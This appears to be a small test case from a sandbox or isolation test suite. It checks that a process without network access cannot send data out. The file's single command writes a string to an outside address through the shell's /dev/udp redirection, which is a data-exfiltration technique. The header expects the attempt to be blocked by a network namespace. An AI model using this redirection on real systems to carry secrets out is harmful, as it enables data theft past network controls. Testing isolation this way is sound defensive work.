# SPDX-License-Identifier: Apache-2.0
#
# Tries to: carry a secret out with a datagram of the shell's
# Promise:  no-network
# Oracle:   network
# Stops:    ENETUNREACH=namespace
# Not promised: process=process-network

echo secret >/dev/udp/8.8.8.8/53
